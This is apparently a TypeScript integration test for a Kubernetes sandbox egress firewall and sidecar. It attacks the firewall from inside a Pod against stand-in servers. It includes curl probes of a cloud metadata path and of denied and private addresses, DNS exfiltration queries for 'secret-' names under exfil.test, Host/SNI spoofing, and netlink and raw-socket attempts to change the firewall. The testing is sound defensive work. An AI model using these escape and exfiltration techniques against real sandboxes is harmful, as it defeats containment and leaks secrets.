// Egress inside a real sandbox Pod on the real node: the firewall egress-init
// installed in the Pod's network namespace and the egress sidecar, attacked
// from the workload (kubectl exec) against stand-in servers in a namespace of
// this test's own. Every target is routed to the stand-ins, and that is proved
// before any attack runs; the stand-ins log every DNS question and connection,
// so "refused" means nothing arrived, not only that the client gave up.
import { execFile } from "node:child_process";
import { promisify } from "node:util";
import type * as k8s from "@kubernetes/client-node";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { kubeConfig, testNamespace } from "../support/cluster.js";
import { OPERATOR_IMAGE } from "../support/docker.js";
import { eventually } from "../support/eventually.js";
import {
  asWorkloadIn,
  containerPid,
  kubectl,
  NODE_SANDBOX_IMAGE,
  NODE_TEST_RESOURCES,
  podFirewall,
} from "../support/node/pods.js";
import { proveRoutes, STANDIN, type Standins, startStandins } from "../support/node/standins.js";
import { type RunningOperator, startOperator } from "../support/operator.js";
import { isReady, SandboxClient } from "../support/sandboxes.js";

const exec = promisify(execFile);
const kc = kubeConfig();
let ns: Awaited<ReturnType<typeof testNamespace>>;
let sbx: SandboxClient;
let operator: RunningOperator;
let standins: Standins;
let pod: k8s.V1Pod;

const ZONE = {
  "allowed.test": { A: [STANDIN.allowed] },
  "denied.test": { A: [STANDIN.denied] },
  "*.exfil.test": { A: [STANDIN.denied], TXT: ["exfil"] },
};

beforeAll(async () => {
  standins = await startStandins(inject("nodeNetns"), inject("nodePodCidr"), ZONE, [
    "allowed.test",
    "denied.test",
  ]);
  ns = await testNamespace(kc, "egress");
  sbx = new SandboxClient(kc, ns.name);
  operator = await startOperator({
    namespace: ns.name,
    user: "operator-2",
    egressImage: OPERATOR_IMAGE,
  });
  await sbx.create("attacker", {
    image: NODE_SANDBOX_IMAGE,
    resources: NODE_TEST_RESOURCES,
    command: ["sleep", "3600"],
    network: {
      egress: { defaultAction: "deny", rules: [{ action: "allow", target: "allowed.test" }] },
    },
  });
  await sbx.waitFor(
    "attacker",
    (s) => {
      isReady(s);
      expect(s.status?.phase).toBe("Running");
    },
    120_000,
  );
  pod = (await sbx.pod("attacker"))!;
});
afterAll(async () => {
  await operator?.stop();
  await ns?.delete();
  await standins?.destroy();
});

/** A command in the workload container, as the workload (kubectl exec). */
const inWorkload = (...argv: string[]) =>
  kubectl(["exec", "-n", ns.name, "attacker", "-c", "sandbox", "--", ...argv]);
const curl = (...args: string[]) =>
  inWorkload("curl", "-sS", "-m", "4", "-o", "/dev/null", "-w", "%{http_code}", ...args);
const seen = (address: string, port: number) =>
  standins.connectionsTo(address).filter((c) => c.port === port).length;

describe("egress in a real sandbox Pod", () => {
  it("routes every target to the stand-ins (proved before the attacks)", async () => {
    const routes = await proveRoutes(inject("nodeNetns"), [
      STANDIN.allowed,
      STANDIN.denied,
      STANDIN.dns,
      STANDIN.metadata,
      STANDIN.privateHost,
    ]);
    for (const [address, route] of Object.entries(routes))
      expect(route, address).toMatch(/ dev sbxi-[0-9a-f]{6} /);
    // Nowhere else: the node has no default route.
    const outside = await exec("ip", ["-n", inject("nodeNetns"), "route", "get", "1.1.1.1"]).catch(
      (e) => e,
    );
    expect(String(outside.stderr)).toContain("Network is unreachable");
    // The denied server is up and reachable from the node: a refusal below is the sandbox's doing.
    const fromNode = await exec("nsenter", [
      `--net=/run/netns/${inject("nodeNetns")}`,
      "--",
      "curl",
      "-sS",
      "-m",
      "3",
      `http://${STANDIN.denied}:8080/`,
    ]);
    expect(fromNode.stdout).toBeDefined();
    expect(seen(STANDIN.denied, 8080)).toBe(1);
  });

  it("lets the allowed name through the explicit proxy and transparently on 80 and 443", async () => {
    expect((await curl("http://allowed.test:8080/")).stdout).toBe("200");
    expect(seen(STANDIN.allowed, 8080)).toBe(1);
    expect((await curl("--noproxy", "*", "http://allowed.test/")).stdout).toBe("200");
    expect(seen(STANDIN.allowed, 80)).toBe(1);
    expect((await curl("--noproxy", "*", "-k", "https://allowed.test/")).stdout).toBe("200");
    expect(seen(STANDIN.allowed, 443)).toBe(1);
    expect(standins.dnsQueries().some((q) => q.name === "allowed.test")).toBe(true);
  });

  it("refuses a denied name, a direct IP, another port, IPv6, the metadata address and a private address", async () => {
    const deniedBefore = standins.connectionsTo(STANDIN.denied).length;
    const attempts: [string, Awaited<ReturnType<typeof curl>>][] = [
      ["denied name via proxy", await curl("http://denied.test:8080/")],
      ["denied name, transparent 80", await curl("--noproxy", "*", "http://denied.test/")],
      ["denied name, transparent 443", await curl("--noproxy", "*", "-k", "https://denied.test/")],
      ["direct IP, other port", await curl("--noproxy", "*", `http://${STANDIN.denied}:8080/`)],
      ["direct IP on 80", await curl("--noproxy", "*", `http://${STANDIN.denied}/`)],
      [
        "allowed name, other port, direct",
        await curl(
          "--noproxy",
          "*",
          "--resolve",
          `allowed.test:8080:${STANDIN.allowed}`,
          "http://allowed.test:8080/",
        ),
      ],
      ["IPv6", await curl("--noproxy", "*", "-6", "http://[2001:db8::10]/")],
      [
        "metadata, transparent",
        await curl("--noproxy", "*", `http://${STANDIN.metadata}/latest/meta-data/`),
      ],
      ["metadata via proxy", await curl(`http://${STANDIN.metadata}/latest/meta-data/`)],
      ["metadata, other port", await curl("--noproxy", "*", `http://${STANDIN.metadata}:8080/`)],
      ["private address via proxy", await curl(`http://${STANDIN.privateHost}:8080/`)],
    ];
    for (const [what, r] of attempts) expect(r.stdout, `${what}: ${r.stderr}`).not.toBe("200");
    expect(standins.connectionsTo(STANDIN.denied).length).toBe(deniedBefore);
    expect(standins.connectionsTo(STANDIN.metadata)).toEqual([]);
    expect(standins.connectionsTo(STANDIN.privateHost)).toEqual([]);
    expect(seen(STANDIN.allowed, 8080)).toBe(1); // the direct attempt on 8080 never arrived
  });

  it("sends an allowed Host or SNI dialed at a denied address to the allowed name's address", async () => {
    const denied = standins.connectionsTo(STANDIN.denied).length;
    const [http, https] = [seen(STANDIN.allowed, 80), seen(STANDIN.allowed, 443)];
    expect(
      (
        await curl(
          "--noproxy",
          "*",
          "--resolve",
          `allowed.test:80:${STANDIN.denied}`,
          "http://allowed.test/",
        )
      ).stdout,
    ).toBe("200");
    expect(
      (
        await curl(
          "--noproxy",
          "*",
          "-k",
          "--resolve",
          `allowed.test:443:${STANDIN.denied}`,
          "https://allowed.test/",
        )
      ).stdout,
    ).toBe("200");
    expect(seen(STANDIN.allowed, 80)).toBe(http + 1);
    expect(seen(STANDIN.allowed, 443)).toBe(https + 1);
    expect(standins.connectionsTo(STANDIN.denied).length).toBe(denied);
  });

  it("refuses DNS exfiltration: the resolver outside never sees the name", async () => {
    const r1 = await inWorkload("busybox", "nslookup", "secret-4f2a.exfil.test", STANDIN.dns);
    const r2 = await inWorkload(
      "python3",
      "-c",
      `import socket,struct
q=struct.pack(">HHHHHH",1,256,1,0,0,0)+b"".join(bytes([len(p)])+p.encode() for p in "secret-99c1.exfil.test".split("."))+b"\\0"+struct.pack(">HH",16,1)
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(3);s.sendto(q,("${STANDIN.dns}",53))
r=s.recv(512);print("rcode",r[3]&15,"answers",struct.unpack(">H",r[6:8])[0])`,
    );
    expect(r1.stdout + r1.stderr).toMatch(/NXDOMAIN|can't resolve|server can't find/i);
    expect(r2.stdout).toMatch(/^rcode 3 answers 0/);
    expect(standins.dnsQueries().filter((q) => String(q.name).includes("secret-"))).toEqual([]);
  });

  it("the workload has no capabilities and cannot change the firewall", async () => {
    const workload = await containerPid(pod, "sandbox");
    const before = await podFirewall(workload);
    expect(before).toMatch(/REDIRECT|DROP|REJECT/);
    const caps = await inWorkload("grep", "^CapEff:", "/proc/self/status");
    expect(caps.stdout).toMatch(/CapEff:\s+0000000000000000/);
    const link = await inWorkload("busybox", "ip", "link", "set", "lo", "down");
    expect(link.code).not.toBe(0);
    expect(link.stderr).toMatch(/not permitted/i);
    const raw = await inWorkload(
      "python3",
      "-c",
      "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)",
    );
    expect(raw.stderr).toContain("PermissionError");
    const nl = await inWorkload(
      "python3",
      "-c",
      "import socket; s=socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); s.bind((0,0)); s.send(b'\\x14\\0\\0\\0\\x10\\0\\x05\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0'); print(s.recv(4096)[16:20].hex())",
    );
    // NFNL batch begin answered with an error (EPERM) or refused outright.
    expect(nl.stdout + nl.stderr).toMatch(
      /ffffffff|PermissionError|ff ff ff ff|f3ffffff|Operation not permitted/,
    );
    expect(await podFirewall(workload)).toBe(before);
  });

  it("killing the sidecar keeps egress closed until the kubelet has restarted it", async () => {
    const sidecar = await containerPid(pod, "egress");
    const workload = await containerPid(pod, "sandbox");
    const arrivedBefore = seen(STANDIN.allowed, 80);
    // Kill, then dial at once from the workload's namespace as its UID: no window.
    const attempt = await exec("sh", [
      "-c",
      `kill -9 ${sidecar}; nsenter -t ${workload} -n -- setpriv --reuid=1000 --regid=1000 --clear-groups --inh-caps=-all -- ` +
        `curl -sS -m 3 --noproxy '*' --resolve allowed.test:80:${STANDIN.allowed} -o /dev/null -w %{http_code} http://allowed.test/; echo " exit=$?"`,
    ]);
    expect(attempt.stdout).not.toMatch(/^200/);
    expect(attempt.stdout).toMatch(/exit=[1-9]/);
    const direct = await asWorkloadIn(workload, [
      "curl",
      "-sS",
      "-m",
      "3",
      "--noproxy",
      "*",
      `http://${STANDIN.denied}:8080/`,
    ]);
    expect(direct.code).not.toBe(0);
    expect(seen(STANDIN.allowed, 80)).toBe(arrivedBefore);
    // The kubelet restarts the native sidecar; egress works again, as judged.
    await eventually(
      async () => {
        const p = await kc
          .makeApiClient((await import("@kubernetes/client-node")).CoreV1Api)
          .readNamespacedPod({ name: "attacker", namespace: ns.name });
        const st = p.status?.initContainerStatuses?.find((s) => s.name === "egress");
        expect(st?.restartCount).toBeGreaterThanOrEqual(1);
        expect(st?.ready).toBe(true);
      },
      { timeout: 60_000, interval: 500 },
    );
    expect((await curl("--noproxy", "*", "http://allowed.test/")).stdout).toBe("200");
    expect((await curl("--noproxy", "*", `http://${STANDIN.denied}:8080/`)).stdout).not.toBe("200");
  });
});
